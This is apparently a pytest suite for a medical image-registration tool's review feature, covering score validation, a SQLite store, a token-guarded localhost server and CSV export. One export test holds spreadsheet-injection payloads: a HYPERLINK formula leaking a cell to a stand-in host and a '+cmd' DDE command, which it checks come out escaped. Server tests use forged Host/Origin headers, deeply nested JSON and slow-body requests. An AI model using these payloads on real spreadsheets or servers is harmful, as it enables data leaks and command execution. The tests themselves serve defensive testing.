"""Review of a run: landmarks to score, the score store, its checks, the local server, CSV export and the CLI."""

from __future__ import annotations

import csv
import http.client
import json
import logging
import os
import re
import signal
import socket
import sqlite3
import threading
import urllib.error
import urllib.parse
import urllib.request
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sirtreg.cli import app
from sirtreg.errors import InputError, OutputExistsError
from sirtreg.review import (
    LIKERT,
    ReviewItem,
    Score,
    ScoreStore,
    export_csv,
    make_server,
    parse_scores,
    read_review_folder,
    review_items,
)
from sirtreg.review import landmarks as landmarks_module
from sirtreg.review import server as server_module
from sirtreg.review.page import review_page
from sirtreg.review.store import FORMULA_STARTS, MAX_COMMENT_CHARS, MAX_REVIEWER_CHARS, MAX_SCORES_PER_SUBMISSION

ITEMS = frozenset({ReviewItem("ct", "landmark", "landmark 1"), ReviewItem("ct", "lesion", "lesion 1")})
CHECKED = " checked title="  # a radio button shown chosen
T0 = datetime(2024, 5, 1, 9, 30, tzinfo=UTC)


def _score(score: int = 4, **changes) -> dict:
    return {"floating": "ct", "kind": "landmark", "landmark": "landmark 1", "score": score, **changes}


# --- what to score ------------------------------------------------------------------------------
def test_file_names_are_those_of_sirtreg_run():
    from sirtreg.pipeline import run, run_outputs

    assert (landmarks_module.RESULTS_NAME, landmarks_module.REPORT_NAME, landmarks_module.RESULTS_FORMAT) == (
        run.RESULTS_NAME, run.REPORT_NAME, run_outputs.RESULTS_FORMAT)


def test_likert_scale_is_the_papers_table_2():
    assert sorted(LIKERT) == [1, 2, 3, 4, 5]
    assert LIKERT[1].startswith("Major misalignment") and "unreliable" in LIKERT[1]
    assert LIKERT[5].startswith("Near perfect alignment") and "deemed reliable" in LIKERT[5]


def test_items_are_the_landmarks_of_each_floating_image_else_its_lesions(run_folder):
    folder = read_review_folder(run_folder)
    assert [entry.id for entry in folder.floating] == ["ct", "mr"]  # "pet" carried nothing: left out
    ct, mr = folder.floating
    assert (ct.modality, ct.guidance, mr.modality) == ("CT", "liver+landmarks", "MR")
    assert [(item.kind, item.landmark) for item in ct.items] == [("landmark", "landmark 1"), ("landmark", "clip <2>")]
    assert [(item.kind, item.landmark) for item in mr.items] == [("lesion", "lesion 1"), ("lesion", "lesion 2")]
    assert len(folder.items) == 4 and all(item.floating != "MAA CT" for item in folder.items)
    assert folder.store_path == run_folder / "review.sqlite"
    assert folder.describe() == "4 landmark(s) of 2 floating image(s)"


def test_results_without_landmark_lists_give_lesions_only(caplog):
    results = {"doses": [{"source": "ct", "role": "lesion", "structure": "ct/lesion 1"}],
               "registrations": [{"floating": "ct"}]}
    with caplog.at_level(logging.WARNING, logger="sirtreg.review"):
        (entry,) = review_items(results)
    assert entry.items == (ReviewItem("ct", "lesion", "lesion 1"),) and "older sirtreg" in caplog.text


@pytest.mark.parametrize(("spoil", "message"), [
    (lambda f: (f / "results.json").unlink(), "holds no results.json"),
    (lambda f: (f / "report.html").unlink(), "holds no report.html"),
    (lambda f: (f / "results.json").write_text("{not json"), "not valid JSON"),
    (lambda f: (f / "results.json").write_text(json.dumps({"format": "sirtreg-plan"})), "not the result"),
    (lambda f: (f / "results.json").write_text("[]"), "not the result"),
    (lambda f: (f / "report.html").write_text("<p>no body</p>"), "no head or body"),
    (lambda f: (f / "results.json").write_text(json.dumps({"format": "sirtreg-run", "registrations": []})),
     "nothing to score"),
])
def test_folders_that_are_no_run_are_refused(run_folder, spoil, message):
    spoil(run_folder)
    with pytest.raises(InputError, match=message):
        read_review_folder(run_folder)


def test_a_file_is_not_a_run_folder(run_folder):
    with pytest.raises(InputError, match="is not a folder"):
        read_review_folder(run_folder / "results.json")


# --- checks of a submission ---------------------------------------------------------------------
def test_a_good_submission_is_parsed():
    scores = parse_scores({"reviewer": "  Dr A ", "scores": [_score(5, comment=" fine "),
                                                             _score(1, kind="lesion", landmark="lesion 1")]}, ITEMS)
    assert scores == [Score("ct", "landmark", "landmark 1", "Dr A", 5, "fine"),
                      Score("ct", "lesion", "lesion 1", "Dr A", 1, "")]


@pytest.mark.parametrize(("payload", "message"), [
    ([], "must be a JSON object"),
    ({"reviewer": "A", "scores": [_score()], "extra": 1}, "unknown field"),
    ({"scores": [_score()]}, "reviewer name is needed"),
    ({"reviewer": "  ", "scores": [_score()]}, "reviewer name is needed"),
    ({"reviewer": 7, "scores": [_score()]}, "reviewer name is needed"),
    ({"reviewer": "A" * (MAX_REVIEWER_CHARS + 1), "scores": [_score()]}, "longer than"),
    ({"reviewer": "A\nB", "scores": [_score()]}, "control characters"),
    ({"reviewer": "A"}, "non-empty list"),
    ({"reviewer": "A", "scores": []}, "non-empty list"),
    ({"reviewer": "A", "scores": {"a": 1}}, "non-empty list"),
    ({"reviewer": "A", "scores": [_score()] * (MAX_SCORES_PER_SUBMISSION + 1)}, "at most"),
    ({"reviewer": "A", "scores": ["4"]}, "score 1: must be an object"),
    ({"reviewer": "A", "scores": [_score(note="x")]}, "unknown field"),
    ({"reviewer": "A", "scores": [_score(floating=1)]}, "must be texts"),
    ({"reviewer": "A", "scores": [_score(floating="mr")]}, "no landmark 'landmark 1' of floating image 'mr'"),
    ({"reviewer": "A", "scores": [_score(landmark="landmark 9")]}, "no landmark 'landmark 9'"),
    ({"reviewer": "A", "scores": [_score(kind="lesion")]}, "no lesion 'landmark 1'"),
    ({"reviewer": "A", "scores": [_score(0)]}, "whole number from 1 to 5, got 0"),
    ({"reviewer": "A", "scores": [_score(6)]}, "whole number from 1 to 5, got 6"),
    ({"reviewer": "A", "scores": [_score(4.0)]}, "whole number from 1 to 5, got 4.0"),
    ({"reviewer": "A", "scores": [_score("4")]}, "whole number from 1 to 5, got '4'"),
    ({"reviewer": "A", "scores": [_score(True)]}, "whole number from 1 to 5, got True"),
    ({"reviewer": "A", "scores": [_score(None)]}, "whole number from 1 to 5, got None"),
    ({"reviewer": "A", "scores": [_score(comment=3)]}, "comment must be a text"),
    ({"reviewer": "A", "scores": [_score(comment="x" * (MAX_COMMENT_CHARS + 1))]}, "comment is longer"),
    ({"reviewer": "A", "scores": [_score(3), _score(4)]}, "scored twice"),
])
def test_bad_submissions_are_refused(payload, message):
    with pytest.raises(InputError, match=message):
        parse_scores(payload, ITEMS)


# --- the store ----------------------------------------------------------------------------------
def test_store_round_trip_update_and_history(tmp_path):
    store = ScoreStore(tmp_path / "review.sqlite")
    assert store.scores() == [] and not store.path.exists()  # nothing is created by reading
    first = [Score("ct", "landmark", "landmark 1", "A", 4, "ok"), Score("ct", "lesion", "lesion 1", "A", 2)]
    assert store.save(first, now=T0) == 2
    assert store.save([Score("ct", "landmark", "landmark 1", "B", 5)], now=T0) == 1
    assert store.scores("A") == [replace(s, scored_utc="2024-05-01T09:30:00+00:00") for s in first]
    assert [s.reviewer for s in store.scores()] == ["A", "B", "A"]  # by floating, kind, landmark, reviewer
    later = datetime(2024, 5, 2, 8, 0, tzinfo=UTC)
    assert store.save([Score("ct", "landmark", "landmark 1", "A", 4, "ok")], now=later) == 0  # unchanged: kept
    assert store.save([Score("ct", "landmark", "landmark 1", "A", 3, "ok")], now=later) == 1
    current = {(s.landmark, s.reviewer): s for s in store.scores()}
    assert current[("landmark 1", "A")].score == 3 and current[("landmark 1", "A")].scored_utc.startswith("2024-05-02")
    assert current[("lesion 1", "A")].scored_utc.startswith("2024-05-01")
    assert [(s.reviewer, s.score) for s in store.history() if s.landmark == "landmark 1"] == [
        ("A", 4), ("B", 5), ("A", 3)]
    assert len(store.history("B")) == 1


def test_a_failed_save_stores_nothing(tmp_path):
    store = ScoreStore(tmp_path / "review.sqlite")
    with pytest.raises(InputError, match="not a readable review store"):  # the CHECK on score refuses 9
        store.save([Score("ct", "landmark", "landmark 1", "A", 4), Score("ct", "lesion", "lesion 1", "A", 9)])
    assert store.scores() == [] and store.history() == []


def test_files_that_are_no_store_are_refused(tmp_path):
    junk = tmp_path / "junk.sqlite"
    junk.write_bytes(b"this is not a database" * 100)
    with pytest.raises(InputError, match="not a readable review store"):
        ScoreStore(junk).scores()
    other = tmp_path / "other.sqlite"
    with sqlite3.connect(other) as connection:
        connection.execute("PRAGMA user_version = 7")
    with pytest.raises(InputError, match="another version"):
        ScoreStore(other).save([Score("ct", "landmark", "landmark 1", "A", 4)])


def test_export_writes_csv_and_refuses_an_existing_file(tmp_path):
    store = ScoreStore(tmp_path / "review.sqlite")
    store.save([Score("ct", "lesion", "lesion 1", "A", 2, 'a "quoted", comment'),
                Score("mr", "landmark", "landmark 1", "A", 5)], now=T0)
    path, count = export_csv(store, tmp_path / "scores.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert count == 2
    assert list(rows[0]) == ["floating", "kind", "landmark", "reviewer", "score", "comment", "scored_utc"]
    assert rows[0]["comment"] == 'a "quoted", comment' and rows[1]["score"] == "5"
    with pytest.raises(OutputExistsError, match="choose another file name"):
        export_csv(store, path)
    assert export_csv(ScoreStore(tmp_path / "none.sqlite"), tmp_path / "empty.csv")[1] == 0


def test_export_escapes_cells_a_spreadsheet_would_run(tmp_path):
    store = ScoreStore(tmp_path / "review.sqlite")
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    store.save([Score("ct", "lesion", "lesion 1", "@SUM(1+1)", 2, link),
                Score("ct", "lesion", "lesion 1", "+cmd|' /C calc'!A0", 3, "-2 mm cranial"),
                Score("=ct", "landmark", "\tclip", "Dr A", 5, "\r=1+1"),
                Score("ct", "landmark", "landmark 1", "Dr B", 1, "fine = good")], now=T0)
    path, count = export_csv(store, tmp_path / "scores.csv")
    text = path.read_text(encoding="utf-8")
    assert count == 4 and "'=HYPERLINK(" in text and "'@SUM(1+1)" in text and "'+cmd|" in text
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]  # nothing a spreadsheet would run
    by_reviewer = {row[3]: row for row in rows[1:]}
    assert by_reviewer["'@SUM(1+1)"][5] == "'" + link and by_reviewer["'+cmd|' /C calc'!A0"][5] == "'-2 mm cranial"
    assert by_reviewer["Dr A"][:3] == ["'=ct", "landmark", "'\tclip"] and by_reviewer["Dr A"][5] == "'\r=1+1"
    assert by_reviewer["Dr B"][4:6] == ["1", "fine = good"]  # numbers and harmless texts unchanged
    assert [row[4] for row in rows[1:]] == ["5", "1", "3", "2"] and ",2,'=HYPERLINK(" in text.replace('"', "")


# --- the page -----------------------------------------------------------------------------------
def test_page_is_the_report_with_the_panel(run_folder):
    folder = read_review_folder(run_folder)
    saved = {ReviewItem("mr", "lesion", "lesion 2"): Score("mr", "lesion", "lesion 2", "A", 3, "<edge>", "2024-05-01")}
    page = review_page(folder, nonce="n0nce", token="t0ken", reviewer='A "x"', saved=saved)
    report = (run_folder / "report.html").read_text()
    head, body = report.index("</head>"), report.rindex("</body>")
    assert report[head:body] in page  # the report's content unchanged
    assert page.count('<tr class="item"') == 4 and page.count('type="radio"') == 20
    assert 'data-landmark="clip &lt;2&gt;"' in page and "clip <2>" not in page  # names escaped
    assert 'value="A &quot;x&quot;"' in page and 'value="&lt;edge&gt;"' in page
    assert page.count(CHECKED) == 1 and f'value="3"{CHECKED}' in page
    assert '<script nonce="n0nce">' in page and page.count("<script") == 1
    assert 'data-token="t0ken"' in page and "X-Sirtreg-Token" in page  # the script sends the token
    assert "Near perfect alignment" in page and "<script" not in report  # the report itself has no script


# --- the server ---------------------------------------------------------------------------------
@pytest.fixture()
def served(run_folder):
    """A review server on a free port, serving in a thread; stopped after the test."""
    server = make_server(run_folder, port=0, reviewer="Dr A")
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join(5)


def _url(server, path: str, token: str | None = ...) -> str:
    """The address of ``path`` on ``server`` with ``token`` in the query (the server's own by default)."""
    url = f"http://127.0.0.1:{server.port}{path}"
    token = server.token if token is ... else token
    return url if token is None else f"{url}{'&' if '?' in path else '?'}token={token}"


def _get(server, path: str, token: str | None = ...) -> tuple[int, dict, bytes]:
    with urllib.request.urlopen(_url(server, path, token), timeout=10) as response:
        return response.status, dict(response.headers), response.read()


def _post(server, document, *, path: str = "/api/scores", headers: dict | None = None,
          body: bytes | None = None, token: str | None = ...) -> tuple[int, dict]:
    """POST as the page does: the token (the server's own by default) in the X-Sirtreg-Token header."""
    data = body if body is not None else json.dumps(document).encode()
    token = server.token if token is ... else token
    sent = {"Content-Type": "application/json", **({} if token is None else {"X-Sirtreg-Token": token})}
    request = urllib.request.Request(_url(server, path, None), data=data, method="POST",
                                     headers={**sent, **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


def test_server_serves_the_page_and_stores_posted_scores(served, run_folder):
    report = (run_folder / "report.html").read_bytes()
    assert served.url == f"http://127.0.0.1:{served.port}/?token={served.token}" and len(served.token) >= 43
    assert served.server_address[0] == "127.0.0.1"
    status, headers, page = _get(served, "/")
    assert status == 200 and headers["Content-Type"].startswith("text/html")
    assert f'data-token="{served.token}"'.encode() in page
    assert "script-src 'nonce-" in headers["Content-Security-Policy"] and b'id="review-form"' in page
    assert b'value="Dr A"' in page and CHECKED.encode() not in page
    assert json.loads(_get(served, "/api/scores")[2]) == {"scores": []}

    status, answer = _post(served, {"reviewer": "Dr A", "scores": [
        _score(4, comment="slightly cranial"), _score(2, floating="mr", kind="lesion", landmark="lesion 2")]})
    assert status == 200 and (answer["changed"], answer["received"]) == (2, 2)
    assert [(s["landmark"], s["score"]) for s in answer["scores"]] == [("landmark 1", 4), ("lesion 2", 2)]
    status, answer = _post(served, {"reviewer": "Dr B", "scores": [_score(5)]})
    assert status == 200 and [s["reviewer"] for s in answer["scores"]] == ["Dr B"]

    page = _get(served, "/")[2].decode()  # on reload, Dr A's scores are shown
    assert page.count(CHECKED) == 2 and 'value="slightly cranial"' in page
    mine = json.loads(_get(served, "/api/scores?reviewer=Dr%20B")[2])["scores"]
    assert [(s["reviewer"], s["score"]) for s in mine] == [("Dr B", 5)]
    with sqlite3.connect(run_folder / "review.sqlite") as connection:
        assert connection.execute("SELECT count(*) FROM scores").fetchone() == (3,)
    assert (run_folder / "report.html").read_bytes() == report  # the report on disk is never changed


@pytest.mark.parametrize(("request_kwargs", "status", "message"), [
    ({"document": {"reviewer": "A", "scores": [_score(6)]}}, 400, "from 1 to 5, got 6"),
    ({"document": {"reviewer": "A", "scores": [_score(landmark="landmark 7")]}}, 400, "no landmark 'landmark 7'"),
    ({"document": {"reviewer": "", "scores": [_score()]}}, 400, "reviewer name is needed"),
    ({"document": None, "body": b"{not json"}, 400, "not valid JSON"),
    ({"document": None, "body": b"\xff\xfe"}, 400, "not valid JSON"),
    ({"document": {"reviewer": "A", "scores": [_score()]}, "headers": {"Content-Type": "text/plain"}}, 400,
     "application/json"),
    ({"document": {"reviewer": "A", "scores": [_score()]}, "headers": {"Origin": "http://evil.example"}}, 403,
     "from the review page only"),
    ({"document": {"reviewer": "A", "scores": [_score()]}, "headers": {"Host": "evil.example"}}, 403,
     "unexpected Host"),
    ({"document": {"reviewer": "A", "scores": [_score()]}, "path": "/api/other"}, 404, "scores are sent to"),
])
def test_server_refuses_bad_posts(served, request_kwargs, status, message):
    answer = _post(served, **request_kwargs)
    assert answer[0] == status and message in answer[1]["error"]
    assert served.store.scores() == []


def _raw_post(server, length: str | None, body: bytes = b"") -> tuple[int, str]:
    """POST ``body`` with the token and a Content-Length header of ``length`` (none if None); (status, error)."""
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    try:
        connection.putrequest("POST", "/api/scores")
        connection.putheader("Content-Type", "application/json")
        connection.putheader("X-Sirtreg-Token", server.token)
        if length is not None:
            connection.putheader("Content-Length", length)
        connection.endheaders(body or None)
        response = connection.getresponse()
        return response.status, json.loads(response.read())["error"]
    finally:
        connection.close()


def test_server_refuses_bodies_without_or_over_the_size_limit(served):
    assert server_module.MAX_BODY_BYTES == 1024 * 1024
    for length, status in ((None, 400), ("0", 400), ("-5", 400), ("many", 400),
                           (str(server_module.MAX_BODY_BYTES + 1), 413), ("99999999999999999999", 413)):
        answer = _raw_post(served, length)
        assert answer[0] == status and ("Content-Length" in answer[1] or "the body must hold" in answer[1]), length
    with socket.create_connection(("127.0.0.1", served.port), timeout=10) as short:  # the client stops early
        short.sendall(f"POST /api/scores HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\nX-Sirtreg-Token: "
                      f"{served.token}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{{".encode())
        short.shutdown(socket.SHUT_WR)
        answer = short.makefile("rb").read()
    assert answer.startswith(b"HTTP/1.0 400") and b"the body ended after 1 of 100 bytes" in answer
    assert served.store.scores() == []


@pytest.mark.parametrize("body", [
    b"[" * 100_000, b'{"a": ' * 100_000, b"[" * 33 + b"]" * 33,
    b'{"reviewer": "A", "scores": [], "x": ' + b"[" * 32 + b"]" * 32 + b"}",  # 33 levels with the object
])
def test_server_refuses_deeply_nested_json_and_goes_on(served, body):
    status, answer = _post(served, None, body=body)
    assert status == 400 and "nested deeper than 32 levels" in answer["error"]
    status, answer = _post(served, {"reviewer": "[[[[" * 20, "scores": [_score(comment="{{{{" * 20)]})
    assert status == 200 and answer["changed"] == 1  # brackets in strings do not count; the server goes on


def test_json_depth_counts_brackets_outside_strings():
    texts = {"1": 0, "[]": 1, '{"a": [1, {"b": []}]}': 4, '["[[[", "{{"]': 1, r'["\"[[", "\\", "]]"]': 1,
             "]]][[": 2, "[" * 100_000: 100_000, "[" * 32 + "]" * 32: 32}
    assert {text: server_module.json_depth(text) for text in texts} == texts
    assert server_module.MAX_JSON_DEPTH == 32  # 32 levels pass the check, and are parsed: no submission
    with pytest.raises(InputError, match="must be a JSON object"):
        parse_scores(json.loads("[" * 32 + "]" * 32), ITEMS)


def test_server_gives_up_on_slow_clients(served, monkeypatch):
    monkeypatch.setattr(server_module._Handler, "timeout", 0.3)
    assert server_module.REQUEST_TIMEOUT_S == 10 and served.RequestHandlerClass.timeout == 0.3
    with socket.create_connection(("127.0.0.1", served.port), timeout=10) as slow:  # headers, half a body
        slow.sendall(f"POST /api/scores HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\nContent-Type: application/json\r\n"
                     f"X-Sirtreg-Token: {served.token}\r\nContent-Length: 100\r\n\r\n{{".encode())
        answer = slow.makefile("rb").read()
    assert answer.startswith(b"HTTP/1.0 408") and b"did not arrive within 0.3 s" in answer
    with socket.create_connection(("127.0.0.1", served.port), timeout=10) as silent:  # not even a request line
        assert silent.recv(100) == b""  # closed without an answer
    assert _post(served, {"reviewer": "A", "scores": [_score()]})[0] == 200


def test_server_answers_500_when_the_store_breaks_while_serving(served, run_folder):
    (run_folder / "review.sqlite").write_bytes(b"not a database" * 100)
    status, answer = _post(served, {"reviewer": "A", "scores": [_score()]})
    assert status == 500 and "the scores were not stored" in answer["error"]


def test_server_refuses_unknown_pages_foreign_hosts_and_bad_names(served):
    for path, status, message in (("/report.png", 404, "no such page"),
                                  ("/api/scores?reviewer=%0A", 400, "reviewer name is needed")):
        with pytest.raises(urllib.error.HTTPError) as caught:
            _get(served, path)
        assert caught.value.code == status and message in json.loads(caught.value.read())["error"]
    request = urllib.request.Request(served.url, headers={"Host": f"attacker.example:{served.port}"})
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(request, timeout=10)
    assert caught.value.code == 403


def _refused(call) -> tuple[int, bytes]:
    """The status and body of a refused urllib request."""
    with pytest.raises(urllib.error.HTTPError) as caught:
        call()
    return caught.value.code, caught.value.read()


def test_server_answers_nothing_without_the_token(served):
    assert _post(served, {"reviewer": "Dr A", "scores": [_score(comment="secret remark")]})[0] == 200
    right = served.token
    wrong = ("x" if right[0] != "x" else "y") + right[1:]
    for token in (None, "", wrong, right[:-1], right + "x", "é" * 43):
        for path in ("/", "/index.html", "/api/scores", "/api/scores?reviewer=Dr%20A", "/report.png"):
            status, body = _refused(lambda: _get(served, path, token=None if token is None else
                                                 urllib.parse.quote(token)))
            assert status == 403 and b"no or wrong token" in body and len(body) < 200, (token, path)
            assert b"secret" not in body and b"review-form" not in body and b"Dr A" not in body
        status, answer = _post(served, {"reviewer": "Dr B", "scores": [_score(2)]}, token=token)
        assert status == 403 and "no or wrong token" in answer["error"], token
    request = urllib.request.Request(_url(served, "/", None), headers={"X-Sirtreg-Token": wrong})
    assert _refused(lambda: urllib.request.urlopen(request, timeout=10))[0] == 403
    request = urllib.request.Request(_url(served, "/"), headers={"X-Sirtreg-Token": wrong})  # one right, one wrong
    assert _refused(lambda: urllib.request.urlopen(request, timeout=10))[0] == 403
    assert _refused(lambda: _get(served, f"/?token={right}&token={wrong}", token=None))[0] == 403
    assert [(s.reviewer, s.score) for s in served.store.scores()] == [("Dr A", 4)]  # nothing saved without it

    request = urllib.request.Request(_url(served, "/api/scores", None), headers={"X-Sirtreg-Token": right})
    with urllib.request.urlopen(request, timeout=10) as response:  # the token in the header, as the page sends it
        assert response.status == 200 and json.loads(response.read())["scores"][0]["comment"] == "secret remark"
    assert _get(served, "/")[0] == 200 and _post(served, {"reviewer": "Dr B", "scores": [_score(2)]})[0] == 200
    assert len(served.store.scores()) == 2


def test_servers_have_tokens_of_their_own(run_folder):
    first, second = make_server(run_folder), make_server(run_folder)
    try:
        assert first.token != second.token and first.token in first.url and second.token not in first.url
        assert first.knows([first.token]) and not first.knows([second.token]) and not first.knows([])
    finally:
        first.server_close()
        second.server_close()


def _as_nobody(port: int, requests: list[tuple[str, str, dict]]) -> list[int] | str:
    """The statuses of ``requests`` (method, path, headers) made by the user nobody, or why that cannot be.

    Forks; the child drops root's privileges to nobody (uid and groups) and makes the requests with its own
    sockets, as another user of this computer would.
    """
    import pwd

    if not hasattr(os, "fork") or os.geteuid() != 0:
        return "another local user needs root here to drop privileges (os.setuid); not root"
    try:
        nobody = pwd.getpwnam("nobody")
    except KeyError:
        return "there is no user nobody to become"
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:  # the child: never returns
        try:
            signal.alarm(30)
            os.close(reading)
            os.setgroups([])
            os.setgid(nobody.pw_gid)
            os.setuid(nobody.pw_uid)
            assert os.getuid() == os.geteuid() == nobody.pw_uid != 0
            statuses = []
            for method, path, headers in requests:
                connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
                body = b'{"reviewer": "Mallory", "scores": []}' if method == "POST" else None
                connection.request(method, path, body=body, headers=headers)
                statuses.append(connection.getresponse().status)
                connection.close()
            os.write(writing, json.dumps(statuses).encode())
        except BaseException as exc:  # noqa: BLE001 - reported to the parent
            os.write(writing, json.dumps(f"the child failed: {exc!r}").encode())
        finally:
            os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as pipe:
        answer = json.loads(pipe.read() or b'"no answer"')
    os.waitpid(child, 0)
    return answer


def test_a_second_local_user_without_the_token_is_refused(served):
    json_type = {"Content-Type": "application/json"}
    requests = [("GET", "/", {}), ("GET", "/api/scores", {}), ("POST", "/api/scores", json_type),
                ("GET", f"/?token={served.token}", {})]  # the last: with the token, to show the request arrives
    statuses = _as_nobody(served.port, requests)
    if isinstance(statuses, str):
        if statuses.startswith("the child failed: PermissionError"):
            pytest.skip(f"privileges cannot be dropped here: {statuses}")
        assert statuses.startswith(("another local user", "there is no user")), statuses
        pytest.skip(statuses)
    assert statuses == [403, 403, 403, 200]
    assert served.store.scores() == []


def test_make_server_refusals(run_folder, tmp_path):
    for port in (-1, 65536, True):
        with pytest.raises(InputError, match="port must be a whole number"):
            make_server(run_folder, port=port)
    with pytest.raises(InputError, match="control characters"):
        make_server(run_folder, reviewer="A\tB")
    with pytest.raises(InputError, match="holds no results.json"):
        make_server(tmp_path)
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        with pytest.raises(InputError, match="cannot listen on 127.0.0.1"):
            make_server(run_folder, port=taken.getsockname()[1])
    (run_folder / "review.sqlite").write_bytes(b"not a database" * 100)
    with pytest.raises(InputError, match="not a readable review store"):
        make_server(run_folder)


# --- the command line ---------------------------------------------------------------------------
def test_cli_refuses_a_folder_that_is_no_run(tmp_path):
    result = CliRunner().invoke(app, ["review", str(tmp_path), "--no-browser"])
    assert result.exit_code == 2 and "error:" in result.output and "holds no results.json" in result.output


def test_cli_exports_scores_and_refuses_overwriting(run_folder, tmp_path):
    ScoreStore(run_folder / "review.sqlite").save([Score("ct", "lesion", "lesion 1", "A", 2)])
    target = tmp_path / "scores.csv"
    result = CliRunner().invoke(app, ["review", str(run_folder), "--export", str(target)])
    assert result.exit_code == 0 and "wrote 1 score(s)" in result.output
    assert target.read_text().splitlines()[1].startswith("ct,lesion,lesion 1,A,2,")
    result = CliRunner().invoke(app, ["review", str(run_folder), "--export", str(target)])
    assert result.exit_code == 2 and "exists" in result.output


def test_cli_prints_the_address_opens_the_browser_and_stops_on_ctrl_c(run_folder, monkeypatch):
    opened = []
    launcher_pages = []

    def open_page(address):
        opened.append(address)
        page = Path(address.removeprefix("file://"))
        launcher_pages.append((page, page.read_text(encoding="utf-8"), page.stat().st_mode & 0o777))

    monkeypatch.setattr("webbrowser.open", open_page)

    def interrupted(self, poll_interval=0.5):
        raise KeyboardInterrupt

    monkeypatch.setattr(server_module.ReviewServer, "serve_forever", interrupted)
    result = CliRunner().invoke(app, ["review", str(run_folder), "--reviewer", "Dr A"])
    assert result.exit_code == 0, result.output
    assert "http://127.0.0.1:" in result.output and "stopped; 0 score(s)" in result.output
    # the browser gets a page only this user can read that leads to the address, so the token never
    # stands on a command line that other users can list
    assert len(opened) == 1 and opened[0].startswith("file://")
    [(page, text, mode)] = launcher_pages
    address = re.search(r'url=(http://127\.0\.0\.1:\d+/\?token=[\w-]+)"', text).group(1)
    assert address in result.output and mode == 0o600 and not page.exists()  # removed when the server stops
    result = CliRunner().invoke(app, ["review", str(run_folder), "--no-browser", "--port", "70000"])
    assert result.exit_code == 2 and "port must be" in result.output and len(opened) == 1
